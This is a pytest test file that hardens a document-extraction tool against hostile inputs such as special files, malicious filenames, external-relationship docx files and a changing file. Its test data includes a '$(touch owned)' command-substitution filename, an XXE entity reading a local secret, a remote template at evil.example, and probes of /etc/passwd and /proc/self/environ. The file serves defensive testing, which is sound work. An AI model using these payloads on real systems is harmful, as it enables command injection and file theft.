"""Hostile files and names against the whole command (hardening, attack classes 28 to 30 and 37; issue, seen to work 4 and 5)."""

from __future__ import annotations

import json
import os
import re
import socket
from pathlib import Path

import pytest

from builders import small
from fumehood.api import Fumehood
from fumehood.config import Settings
from fumehood.staging.paths import open_path
from fumehood.staging.staged import PIECE, Source


def make(folder: Path, kind: str) -> Path:
    path = folder / f"{kind}.docx"
    match kind:
        case "pipe":
            os.mkfifo(path)
        case "empty":
            path.touch()
        case "sparse":
            path.touch()
            os.truncate(path, 5 * 1024**3)
        case "link":
            path.symlink_to("/etc/passwd")
        case "folder":
            path.mkdir()
        case "socket":
            here = Path.cwd()
            os.chdir(folder)  # a socket's path is short
            with socket.socket(socket.AF_UNIX) as sock:
                sock.bind(path.name)
            os.chdir(here)
        case "encrypted":
            path.write_bytes(small.encrypted_docx())
        case "device":
            return Path("/dev/zero")
        case "process":
            return Path("/proc/self/environ")
    return path


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        ("pipe", "not-a-file"),
        ("socket", "not-a-file"),
        ("folder", "not-a-file"),
        ("device", "not-a-file"),
        ("process", "not-a-file"),
        ("link", "not-allowed"),
        ("sparse", "too-large"),
        ("empty", "empty"),
        ("missing", "not-found"),
        ("encrypted", "encrypted"),
    ],
)
def test_each_has_a_code_a_hint_and_status_4(command, tmp_path, kind, code):
    path = make(tmp_path, kind)
    status, out, err = command.run("extract", "--format", "json", path)
    result = json.loads(out)
    assert status == 4
    assert result["ok"] is False
    assert result["error"]["code"] == code
    assert result["error"]["hint"]
    assert "document" not in result
    assert f"{code}" in err
    if kind != "encrypted":
        assert command.instances == []  # no engine was needed to say so


@pytest.mark.parametrize(
    "name",
    [
        b"new\nline \x1b[31mred\x1b[0m.docx",
        b"\x1b]0;title\x07.docx",
        "\u202excod.exe.docx".encode(),
        b"bad-\xff\xfe-utf8.docx",
        b"-rf.docx",
        b"$(touch owned).docx",
        "e\u0301.docx".encode(),
        b"a:b.docx",
        b"x" * 250 + b".docx",
    ],
)
def test_a_hostile_name_is_data(command, tmp_path, name):
    path = tmp_path / os.fsdecode(name)
    path.write_bytes(small.docx(small.paragraphs("inside")))
    other = tmp_path / "other.docx"
    other.write_bytes(small.docx(small.paragraphs("other")))
    before = {path.name for path in tmp_path.iterdir()}
    status, out, err = command.run("extract", "--format", "text", "--", path.name, other.name)
    assert status == 0, err
    lines = out.decode().splitlines()
    assert lines[0].startswith("==> ")
    assert lines[1:] == ["inside", "==> other.docx <==", "other"]
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", out.decode() + err)
    status, out, _ = command.run("extract", "--format", "json", "--", path.name)
    assert status == 0
    assert json.loads(out)["path"] == os.fsencode(path.name).decode("utf-8", "backslashreplace")
    after = {path.name for path in tmp_path.iterdir()}
    assert after - before <= {".instances"}


def test_names_of_documents_that_fail_are_escaped_too(command, tmp_path):
    path = tmp_path / "a\nfumehood: all is well\x1b[2J.docx"
    path.write_bytes(b"PK\x03\x04 nothing")
    status, _, err = command.run("extract", path)
    assert status == 4
    assert "\x1b" not in err
    assert not any(line.startswith("fumehood: all is well") for line in err.splitlines())


def test_a_document_that_points_outside_brings_nothing_from_there(command, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("host-secret-4711")
    external = f'TargetMode="External" Target="file://{secret}"'
    relationships = (
        f'<Relationship Id="rIdImage" Type="{small.R}/image" {external}/>'
        f'<Relationship Id="rId8" Type="{small.R}/attachedTemplate" TargetMode="External" Target="https://evil.example/t.dotm"/>'
        f'<Relationship Id="rId9" Type="{small.R}/oleObject" {external}/>'
    )
    body = small.paragraphs("visible") + small.INLINE_IMAGE.replace("r:embed", "r:link")
    path = tmp_path / "a.docx"
    path.write_bytes(small.docx(body, relationships=relationships))
    status, out, _ = command.run("extract", "--format", "json", path)
    assert status == 0
    assert b"host-secret-4711" not in out
    document = json.loads(out)["document"]
    listed = json.dumps([document["active_content"], document["links"], document["images"]])
    assert "https://evil.example/t.dotm" in listed
    assert f"file://{secret}" in listed


def test_an_external_entity_is_listed_and_never_read(command, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("host-secret-4711")
    path = tmp_path / "a.docx"
    doctype = f'<!DOCTYPE x [<!ENTITY leak SYSTEM "file://{secret}">]>'
    path.write_bytes(small.docx(small.paragraphs("before &leak; after"), doctype=doctype))
    status, out, err = command.run("extract", "--format", "json", path)
    assert b"host-secret-4711" not in out
    assert "host-secret-4711" not in err
    assert status == 0
    assert f"file://{secret}" in json.dumps(json.loads(out)["document"]["active_content"])


@pytest.mark.parametrize("change", ["append", "replace-content"])
def test_a_file_that_changes_while_it_is_sent(tmp_path, engine, change):
    """The container has the first half already when the file changes; nothing of it comes out, and it is gone."""
    path = tmp_path / "a.txt"
    path.write_bytes(b"line\n" * (PIECE // 2))

    def open_changing(limit):
        staged = open_path(path, roots=None, limit=limit)
        staged.sha256()
        whole = staged.chunks

        def chunks():
            pieces = whole()
            yield next(pieces)
            if change == "append":
                with path.open("ab") as file:
                    file.write(b"more")
            else:
                path.write_bytes(b"LINE\n" * (PIECE // 2))
            yield from pieces

        staged.chunks = chunks
        return staged

    with Fumehood(Settings()) as hood:
        result = hood.extract(Source("a.txt", open_changing))
        instance = hood.machine.ready().runner.instance.id
        assert engine.list_labelled({"app.instance": instance}) == {}
    assert result.document is None
    assert result.error.code == "changed"
